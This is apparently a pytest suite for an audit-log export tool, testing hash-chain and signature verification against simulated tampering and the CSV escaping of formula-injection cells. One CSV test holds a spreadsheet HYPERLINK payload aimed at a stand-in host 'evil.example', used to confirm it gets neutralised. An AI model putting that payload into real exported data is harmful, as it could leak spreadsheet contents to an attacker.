"""Exports: the JSON Lines format, CSV, and offline verification of every kind of tampering."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from signoff.core import log_tree
from signoff.core.audit import GENESIS, AuditEntry, AuditRecord, entry_hash, seal
from signoff.core.checkpoints import key_id, sign
from signoff.errors import DataLoss
from signoff.export import (
    CSV_COLUMNS,
    ENTRY_FIELDS,
    ExportWriter,
    checkpoint_from_json,
    checkpoint_json,
    csv_header,
    csv_row,
    decode_line,
    encode_line,
    entry_from_json,
    entry_json,
    export_lines,
    neutralise,
    verify_export,
)

T0 = dt.datetime(2024, 5, 1, 12, 0, 0, 123456, tzinfo=dt.UTC)
KEY = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))
PUB = KEY.public_key()
OTHER = Ed25519PrivateKey.from_private_bytes(bytes(range(1, 33)))
CHECKPOINT_SEQS = (3, 6, 9)
N = 10


def record(n: int, **overrides: Any) -> AuditRecord:
    fields: dict[str, Any] = {
        "type": "decision",
        "time": T0 + dt.timedelta(seconds=n),
        "actor": "agent-7",
        "request_id": f"req-{n}",
        "decision_id": f"dec-{n}",
        "action_name": "refund.issue",
        "outcome": "REQUIRE_REVIEW",
        "principal": "agent-7",
        "reviewer_group": "finance",
        "rules": ("large-refund", "eu"),
        "policy_version": "sha256:abc",
        "payload": {"params": {"amount": 750.5, "note": 'a,b\n"c"'}, "n": n},
    }
    return AuditRecord(**{**fields, **overrides})


def chain(records: list[AuditRecord], first: int = 1, prev: str = GENESIS) -> list[AuditEntry]:
    out: list[AuditEntry] = []
    for i, rec in enumerate(records, start=first):
        out.append(seal(rec, seq=i, prev_hash=prev))
        prev = out[-1].hash
    return out


ENTRIES = chain([record(i) for i in range(1, N + 1)])


def checkpoints(entries: list[AuditEntry], key: Ed25519PrivateKey = KEY) -> list[Any]:
    at = {e.seq: e for e in entries}
    return [sign(key, s, at[s].hash, T0 + dt.timedelta(minutes=s)) for s in CHECKPOINT_SEQS]


def export(
    entries: list[AuditEntry] = ENTRIES,
    cps: list[Any] | None = None,
    *,
    filtered: bool = False,
    key: Ed25519PrivateKey = KEY,
) -> list[bytes]:
    cps = checkpoints(ENTRIES) if cps is None else cps
    now = lambda: T0 + dt.timedelta(hours=1)  # noqa: E731
    return list(export_lines(entries, cps, key, filtered=filtered, now=now))


GOOD = export()
# 1 e1, 2 e2, 3 e3, 4 cp3, 5 e4, 6 e5, 7 e6, 8 cp6, 9 e7, 10 e8, 11 e9, 12 cp9, 13 e10, 14 end


def at(lines: list[bytes], seq: int) -> int:
    """Index of the entry line with `seq`."""
    return next(i for i, line in enumerate(lines) if json.loads(line).get("seq") == seq)


def cp_at(lines: list[bytes], seq: int) -> int:
    return next(
        i
        for i, line in enumerate(lines)
        if json.loads(line).get("checkpoint", {}).get("seq") == seq
    )


# -- the good case ---------------------------------------------------------------------------


def test_good_export_verifies() -> None:
    report = verify_export(iter(GOOD), PUB)
    assert report.ok, report
    assert (report.entries, report.checkpoints_verified) == (N, 3)
    assert (report.head_seq, report.head_hash) == (N, ENTRIES[-1].hash)
    assert report.problem == report.detail == ""
    # Entry 10 comes after the last stored checkpoint: the report says what vouches for it.
    assert report.notes == [
        "entries after seq 9 have no stored checkpoint here: only the export's own end "
        "signature (made at export time) vouches for them"
    ]
    assert len(GOOD) == N + len(CHECKPOINT_SEQS) + 1


def test_layout_puts_checkpoints_after_their_entry_and_the_end_last() -> None:
    kinds = [next(iter(json.loads(line))) for line in GOOD]
    assert kinds[at(GOOD, 3) + 1] == "checkpoint"
    assert kinds[-1] == "end"
    end = json.loads(GOOD[-1])["end"]
    assert (end["entries"], end["filtered"]) == (N, False)
    assert (end["checkpoint"]["seq"], end["checkpoint"]["head_hash"]) == (N, ENTRIES[-1].hash)
    assert end["checkpoint"]["time"] == "2024-05-01T13:00:00.123456Z"


def test_without_a_public_key_hashes_are_checked_and_the_report_says_so() -> None:
    report = verify_export(GOOD, None)
    assert report.ok
    assert report.checkpoints_verified == 0
    assert report.notes == [
        "no public key: signatures were not checked; ok covers hashes and links only "
        "(3 checkpoints match the chain)"
    ]
    assert not verify_export(GOOD[:-1], None).ok


def test_empty_export_verifies() -> None:
    lines = export([], [])
    assert len(lines) == 1
    report = verify_export(lines, PUB)
    assert report.ok
    assert (report.entries, report.head_seq) == (0, 0)


def test_range_export_verifies_and_says_where_it_starts() -> None:
    report = verify_export(export(ENTRIES[3:]), PUB)
    assert report.ok, report
    assert "the export starts at seq 4: entries before it are not covered" in report.notes


def test_filtered_export_verifies_hashes_and_signatures_only() -> None:
    picked = [ENTRIES[i] for i in (1, 2, 5, 7)]  # seq 2, 3, 6, 8
    lines = export(picked, filtered=True)
    assert sum(1 for line in lines if b'"checkpoint":{"seq"' in line[:30]) == 2  # at 3 and 6
    report = verify_export(lines, PUB)
    assert report.ok, report
    assert (report.entries, report.checkpoints_verified) == (4, 2)
    assert report.notes[0].startswith("filtered export: each entry's hash and the signatures")


def test_progress_is_reported_while_streaming() -> None:
    seen: list[int] = []
    many = chain([record(i) for i in range(1, 25_001)])
    report = verify_export(export(many, []), PUB, progress=seen.append)
    assert report.ok
    assert seen == [10_000, 20_000, 25_001]


# -- tampering -------------------------------------------------------------------------------

Tamper = Callable[[list[bytes]], list[bytes]]


def change_payload_byte(lines: list[bytes]) -> list[bytes]:
    i = at(lines, 5)
    lines[i] = lines[i].replace(b"750.5", b"751.5")
    return lines


def delete(seq: int) -> Tamper:
    return lambda lines: [line for i, line in enumerate(lines) if i != at(lines, seq)]


def swap(a: int, b: int) -> Tamper:
    def go(lines: list[bytes]) -> list[bytes]:
        i, j = at(lines, a), at(lines, b)
        lines[i], lines[j] = lines[j], lines[i]
        return lines

    return go


def drop_end(lines: list[bytes]) -> list[bytes]:
    return lines[:-1]


def drop_tail_keep_end(lines: list[bytes]) -> list[bytes]:
    return [*lines[: at(lines, 9)], lines[-1]]


def end_from_stored_checkpoint(lines: list[bytes]) -> list[bytes]:
    # Cut right after the stored checkpoint at seq 9 and forge an end from it: counts and
    # digest made to match, the signature copied from the checkpoint.
    kept = lines[: cp_at(lines, 9) + 1]
    entries = [json.loads(line) for line in kept if b'"hash"' in line[-80:]]
    digest = __import__("hashlib").sha256("".join(e["hash"] for e in entries).encode()).hexdigest()
    cp = json.loads(kept[-1])["checkpoint"]
    end = {"entries": len(entries), "filtered": False, "digest": digest, "checkpoint": cp}
    return [*kept, encode_line({"end": end})]


def rewritten_from_seq_2(*, fix_checkpoints: bool = False, resign: Any = None) -> list[bytes]:
    """Entry 2 edited and every later hash recomputed, as someone with the database could."""
    records = [record(1), record(2, outcome="AUTO_ALLOW"), *(record(i) for i in range(3, N + 1))]
    forged = chain(records)
    if resign is not None:
        cps = checkpoints(forged, resign)
    elif fix_checkpoints:
        # Point the stored checkpoints at the forged hashes, keeping the old signatures.
        cps = [
            dataclasses.replace(c, head_hash=forged[c.seq - 1].hash) for c in checkpoints(ENTRIES)
        ]
    else:
        cps = checkpoints(ENTRIES)
    # The server signs the end honestly at export time: over what the database now holds.
    return export(forged, cps)


def replace_checkpoint_with_other_key(lines: list[bytes]) -> list[bytes]:
    i = cp_at(lines, 6)
    lines[i] = encode_line({"checkpoint": checkpoint_json(checkpoints(ENTRIES, OTHER)[1])})
    return lines


def replace_line(seq: int, text: bytes) -> Tamper:
    def go(lines: list[bytes]) -> list[bytes]:
        lines[at(lines, seq)] = text
        return lines

    return go


def flip_filtered(lines: list[bytes]) -> list[bytes]:
    lines = delete(5)(lines)
    lines[-1] = lines[-1].replace(b'"filtered":false', b'"filtered":true')
    return lines


def append_after_end(lines: list[bytes]) -> list[bytes]:
    return [*lines, lines[0]]


def end_by_other_key(lines: list[bytes]) -> list[bytes]:
    return export(key=OTHER)


def add_field(lines: list[bytes]) -> list[bytes]:
    i = at(lines, 4)
    obj = json.loads(lines[i])
    lines[i] = encode_line({**obj, "approved_by": "the CFO"})
    return lines


@pytest.mark.parametrize(
    ("tamper", "problem", "seq", "line", "detail"),
    [
        (change_payload_byte, "changed", 5, 6, "seq 5: content does not match its hash"),
        (delete(5), "missing", 5, 6, "seq 5 missing before seq 6"),
        (delete(6), "missing", 6, 7, "seq 6 missing before the checkpoint at seq 6"),
        (delete(1), "missing", 0, 13, "the end line counts 10 entries, the file has 9"),
        (swap(4, 5), "reordered", 4, 5, "seq 5 comes before seq 4"),
        (swap(4, 8), "reordered", 4, 5, "seq 8 comes before seq 5"),
        (drop_end, "truncated", 11, 14, "truncated: no end line"),
        (drop_tail_keep_end, "truncated", 9, 11, "covers 10 entries up to seq 10, the file has 8"),
        (end_from_stored_checkpoint, "bad signature", 9, 13, "end line at seq 9: the signature"),
        (lambda _: rewritten_from_seq_2(), "checkpoint mismatch", 3, 4, "does not match the chain"),
        (
            lambda _: rewritten_from_seq_2(fix_checkpoints=True),
            "bad signature",
            3,
            4,
            "checkpoint at seq 3: the signature does not verify",
        ),
        (
            lambda _: rewritten_from_seq_2(resign=OTHER),
            "bad signature",
            3,
            4,
            f"checkpoint at seq 3 is signed by key {key_id(OTHER)}, which is not a trusted key "
            f"(trusted: {key_id(KEY)})",
        ),
        (
            replace_checkpoint_with_other_key,
            "bad signature",
            6,
            8,
            f"signed by key {key_id(OTHER)}, which is not a trusted key",
        ),
        (
            end_by_other_key,
            "bad signature",
            10,
            14,
            f"end line at seq 10 is signed by key {key_id(OTHER)}, which is not a trusted key",
        ),
        (flip_filtered, "missing", 5, 6, "seq 5 missing before seq 6"),
        (replace_line(4, b'{"seq": 4,\n'), "malformed", 0, 5, "line 5: not JSON"),
        (replace_line(4, b"\n"), "malformed", 0, 5, "line 5: blank line"),
        (replace_line(4, b'{"seq":4,"x":"\xff"}\n'), "malformed", 0, 5, "not UTF-8"),
        (replace_line(4, b'{"seq":4}\n'), "malformed", 0, 5, "entry field 'time' is missing"),
        (replace_line(4, b"[1]\n"), "malformed", 0, 5, "line 5: entry is not a JSON object"),
        (add_field, "malformed", 0, 5, "entry field 'approved_by' is not part of the format"),
        (append_after_end, "malformed", 0, 15, "line 15: a line after the end line"),
    ],
)
def test_tampering_is_found_at_the_first_bad_line(
    tamper: Tamper, problem: str, seq: int, line: int, detail: str
) -> None:
    report = verify_export(tamper(list(GOOD)), PUB)
    assert not report.ok
    assert (report.problem, report.first_bad_seq, report.first_bad_line) == (problem, seq, line)
    assert detail in report.detail, report.detail


def test_a_rewrite_without_checkpoints_is_vouched_for_only_by_the_export() -> None:
    # The limit of offline checking: if stored checkpoints were deleted too, only an earlier
    # checkpoint held elsewhere (or a previous export) shows the rewrite. The report says so.
    records = [record(1), record(2, outcome="AUTO_ALLOW"), *(record(i) for i in range(3, N + 1))]
    report = verify_export(export(chain(records), []), PUB)
    assert report.ok
    assert report.checkpoints_verified == 0
    assert "entries in this file have no stored checkpoint here" in report.notes[0]


def test_rewrite_is_caught_by_the_checkpoint_even_without_a_key() -> None:
    report = verify_export(rewritten_from_seq_2(), None)
    assert (report.problem, report.first_bad_seq) == ("checkpoint mismatch", 3)


def test_head_is_the_last_good_entry() -> None:
    report = verify_export(change_payload_byte(list(GOOD)), PUB)
    assert (report.head_seq, report.head_hash) == (4, ENTRIES[3].hash)


@pytest.mark.parametrize(
    ("tamper", "problem", "detail"),
    [
        (lambda lines: [x for i, x in enumerate(lines) if i != 1], "missing", "counts 5 entries"),
        (lambda lines: [lines[1], lines[0], *lines[2:]], "changed", "digest differs"),
        (lambda lines: lines[:-3] + lines[-1:], "truncated", "up to seq 8, the file has 3"),
    ],
)
def test_filtered_export_tampering(tamper: Tamper, problem: str, detail: str) -> None:
    picked = [ENTRIES[i] for i in (1, 3, 5, 6, 7)]  # seq 2, 4, 6 (+cp), 7, 8
    lines = export(picked, filtered=True)
    report = verify_export(tamper(lines), PUB)
    assert (report.ok, report.problem) == (False, problem), report
    assert detail in report.detail


def test_filtered_export_with_a_rehashed_entry_fails_the_signed_digest() -> None:
    picked = [ENTRIES[i] for i in (1, 3)]
    lines = export(picked, filtered=True)
    forged = seal(record(4, outcome="DENY"), seq=4, prev_hash=ENTRIES[2].hash)
    lines[1] = encode_line(entry_json(forged))
    report = verify_export(lines, PUB)
    assert (report.problem, report.first_bad_line) == ("changed", 3)


# -- the format ------------------------------------------------------------------------------


def test_entry_round_trips_through_a_line() -> None:
    payload = {"f": [0.1, 1e21, 1e-7, -0.0, 2**53], "s": 'é\u2028\n"', "o": {"b": None, "a": True}}
    entry = chain([record(1, payload=payload, rules=())])[0]
    line = encode_line(entry_json(entry))
    assert line.endswith(b"\n")
    assert line.count(b"\n") == 1
    back = entry_from_json(decode_line(line))
    assert back == entry
    assert entry_hash(back, seq=back.seq, prev_hash=back.prev_hash) == entry.hash
    assert list(json.loads(line)) == list(ENTRY_FIELDS)


def _entry_obj(**changes: Any) -> dict[str, Any]:
    obj = entry_json(ENTRIES[0])
    for k, v in changes.items():
        if v is ...:
            del obj[k]
        else:
            obj[k] = v
    return obj


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"hash": ...}, "entry field 'hash' is missing"),
        ({"extra": 1}, "entry field 'extra' is not part of the format"),
        ({"seq": True}, "entry field 'seq': True is not a positive integer"),
        ({"seq": 0}, "entry field 'seq': 0 is not a positive integer"),
        ({"seq": "1"}, "entry field 'seq'"),
        ({"actor": 7}, "entry seq 1: field 'actor' is not a string"),
        ({"rules": "r"}, "entry seq 1: field 'rules' is not an array of strings"),
        ({"rules": [1]}, "entry seq 1: field 'rules' is not an array of strings"),
        ({"payload": [1]}, "entry seq 1: field 'payload' is not an object"),
        ({"hash": "AB" * 32}, "entry seq 1: field 'hash' is not 64 lowercase hex"),
        ({"prev_hash": "0"}, "entry seq 1: field 'prev_hash' is not 64 lowercase hex"),
        ({"time": "2024-05-01T12:00:01.1Z"}, "entry seq 1: field 'time'"),
        ({"time": "2024-05-01T12:00:01.123456+00:00"}, "entry seq 1: field 'time'"),
        ({"time": 5}, "entry seq 1: field 'time'"),
        ({"type": "coffee"}, "entry seq 1: audit type 'coffee' is not one of"),
        ({"outcome": "MAYBE"}, "entry seq 1: audit outcome 'MAYBE'"),
        ({"payload": {"x": float("inf")}}, "entry seq 1: inf is not a JSON number"),
    ],
)
def test_entry_from_json_names_the_bad_field(changes: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match="^" + __import__("re").escape(message)):
        entry_from_json(_entry_obj(**changes))


def test_decode_line_refuses_non_json_constants() -> None:
    with pytest.raises(ValueError, match="NaN is not JSON"):
        decode_line(b'{"a":NaN}\n')
    assert decode_line(b'{"a":1}\r\n') == {"a": 1}


def test_checkpoint_round_trips_and_names_bad_fields() -> None:
    cp = checkpoints(ENTRIES)[0]
    obj = checkpoint_json(cp)
    assert checkpoint_from_json(json.loads(json.dumps(obj))) == cp
    for changes, message in [
        ({"seq": -1}, "checkpoint: seq -1 is not a non-negative integer"),
        ({"head_hash": "x"}, "checkpoint: head_hash 'x' is not 64 lowercase hex"),
        ({"signature": 5}, "checkpoint: field 'signature' is not a string"),
        ({"time": "yesterday"}, "checkpoint: field 'time'"),
        ({"extra": 1}, "checkpoint field 'extra' is not part of the format"),
    ]:
        with pytest.raises(ValueError, match="^" + __import__("re").escape(message)):
            checkpoint_from_json({**obj, **changes})
    with pytest.raises(ValueError, match="checkpoint field 'key_id' is missing"):
        checkpoint_from_json({k: v for k, v in obj.items() if k != "key_id"})


def test_writer_refuses_what_would_make_a_broken_export() -> None:
    w = ExportWriter(KEY, filtered=False)
    w.entry(ENTRIES[0])
    with pytest.raises(DataLoss, match=r"^the audit log is missing seq 2 \(seq 3 follows 1\)"):
        w.entry(ENTRIES[2])
    with pytest.raises(ValueError, match="out of order: seq 1 after seq 1"):
        w.entry(ENTRIES[0])
    with pytest.raises(ValueError, match="checkpoint at seq 3 does not follow its entry"):
        w.checkpoint(checkpoints(ENTRIES)[0])
    w.end(T0)
    with pytest.raises(ValueError, match="the export has ended"):
        w.entry(ENTRIES[1])
    f = ExportWriter(KEY, filtered=True)
    f.entry(ENTRIES[0])
    f.entry(ENTRIES[2])  # gaps are what a filter makes
    with pytest.raises(ValueError, match="out of order"):
        f.entry(ENTRIES[1])


# -- CSV -------------------------------------------------------------------------------------


def test_csv_quotes_commas_newlines_and_quotes() -> None:
    entry = chain([record(1, actor='ann, "the boss"\nx', rules=("a", "b"))])[0]
    data = (csv_header() + csv_row(entry)).decode("utf-8")
    assert data.startswith(",".join(CSV_COLUMNS) + "\r\n")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == 2
    row = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert row["actor"] == 'ann, "the boss"\nx'
    assert row["rules"] == "a b"
    assert row["time"] == "2024-05-01T12:00:01.123456Z"
    assert row["payload"] == entry.payload_json
    assert json.loads(row["payload"])["params"]["note"] == 'a,b\n"c"'
    assert (row["seq"], row["prev_hash"], row["hash"]) == ("1", GENESIS, entry.hash)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1)',
            '"\'=HYPERLINK(""https://evil.example/?""&A1)"',
        ),
        ("+1+1", '"\'+1+1"'),
        ("-2+3", '"\'-2+3"'),
        ("@SUM(A1)", '"\'@SUM(A1)"'),
        ("\t=1", '"\'\t=1"'),
        ("\r=1", '"\'\r=1"'),
        ("req=1", "req=1"),  # only the first character triggers a formula
        ("'=1", "'=1"),
        ("a,b", '"a,b"'),
        ("", ""),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value: str, cell: str) -> None:
    entry = chain([record(1, actor=value)])[0]
    line = csv_row(entry).decode("utf-8")
    assert f",{cell}," in line  # quoted when neutralised, as OWASP advises
    row = dict(zip(CSV_COLUMNS, next(csv.reader(io.StringIO(line, newline=""))), strict=True))
    assert row["actor"] == neutralise(value)
    assert row["actor"] == ("'" + value if value[:1] in "=+-@\t\r" and value else value)


# -- trusted keys: rotation, forged key ids --------------------------------------------------


def rotated_export() -> list[bytes]:
    """Checkpoints 3 and 6 signed by OTHER (the key before a rotation), 9 and the end by KEY."""
    cps = checkpoints(ENTRIES, OTHER)[:2] + checkpoints(ENTRIES)[2:]
    return export(ENTRIES, cps)


def test_after_a_rotation_old_checkpoints_verify_with_the_old_public_key_trusted() -> None:
    report = verify_export(rotated_export(), [PUB, OTHER.public_key()])
    assert report.ok, report
    assert report.checkpoints_verified == 3


def test_after_a_rotation_without_the_old_key_its_checkpoints_fail() -> None:
    report = verify_export(rotated_export(), [PUB])
    assert (report.problem, report.first_bad_seq) == ("bad signature", 3)
    assert f"signed by key {key_id(OTHER)}, which is not a trusted key" in report.detail


def test_an_end_line_by_an_old_trusted_key_verifies() -> None:
    # The export was made before the rotation; the auditor trusts both keys.
    assert verify_export(export(key=OTHER, cps=[]), [PUB, OTHER.public_key()]).ok


@pytest.mark.parametrize(
    ("kid", "detail"),
    [
        ("0123456789abcdef", "signed by key 0123456789abcdef, which is not a trusted key"),
        (key_id(KEY), f"does not verify with trusted key {key_id(KEY)}"),
    ],
)
def test_a_forged_checkpoint_with_a_junk_signature_fails(kid: str, detail: str) -> None:
    lines = list(GOOD)
    i = cp_at(lines, 6)
    cp = json.loads(lines[i])["checkpoint"]
    lines[i] = encode_line({"checkpoint": {**cp, "key_id": kid, "signature": "AAAA" * 22}})
    report = verify_export(lines, PUB)
    assert (report.problem, report.first_bad_seq, report.first_bad_line) == ("bad signature", 6, 8)
    assert detail in report.detail, report.detail


# -- version 2 checkpoints: the tree head ----------------------------------------------------


def tree_checkpoints(entries: list[AuditEntry], roots: dict[int, str] | None = None) -> list[Any]:
    """Version 2 checkpoints at CHECKPOINT_SEQS, with the true roots unless `roots` says."""
    at = {e.seq: e for e in entries}
    out = []
    for s in CHECKPOINT_SEQS:
        frontier = log_tree.Frontier()
        for e in entries[:s]:
            leaf = log_tree.entry_leaf_hash(e)
            assert leaf is not None
            frontier.append(leaf)
        root = (roots or {}).get(s, frontier.root().hex())
        out.append(sign(KEY, s, at[s].hash, T0 + dt.timedelta(minutes=s), root_hash=root))
    return out


def test_version_2_checkpoints_carry_their_tree_head_and_verify() -> None:
    cps = tree_checkpoints(ENTRIES)
    lines = export(cps=cps)
    line = json.loads(lines[cp_at(lines, 6)])["checkpoint"]
    assert (line["tree_size"], line["root_hash"]) == (6, cps[1].root_hash)
    report = verify_export(iter(lines), PUB)
    assert report.ok, report
    assert (report.checkpoints_verified, report.tree_heads_verified) == (3, 3)
    # Mixed with version 1 checkpoints (stored before the tree): both kinds verify.
    mixed = [checkpoints(ENTRIES)[0], *cps[1:]]
    report = verify_export(iter(export(cps=mixed)), PUB)
    assert report.ok, report
    assert (report.checkpoints_verified, report.tree_heads_verified) == (3, 2)


def test_a_signed_root_that_is_not_the_entries_tree_is_a_mismatch() -> None:
    # Signed with the trusted key, so only the recomputed tree can tell.
    cps = tree_checkpoints(ENTRIES, roots={6: "ab" * 32})
    report = verify_export(iter(export(cps=cps)), PUB)
    assert not report.ok
    assert report.problem == "checkpoint mismatch"
    assert report.first_bad_seq == 6
    assert "tree head does not match the log" in report.detail


def test_a_stripped_or_altered_tree_head_breaks_the_signature() -> None:
    lines = export(cps=tree_checkpoints(ENTRIES))
    i = cp_at(lines, 3)
    obj = json.loads(lines[i])
    for change in ({"root_hash": "cd" * 32}, {"tree_size": 4}, None):
        cp = dict(obj["checkpoint"])
        if change is None:  # downgraded to version 1: the signature covered version 2
            del cp["tree_size"], cp["root_hash"]
        else:
            cp.update(change)
        bad = [*lines[:i], json.dumps({"checkpoint": cp}).encode() + b"\n", *lines[i + 1 :]]
        report = verify_export(iter(bad), PUB)
        assert not report.ok
        assert report.problem in {"bad signature", "malformed"}, report
        assert report.first_bad_seq in {0, 3}
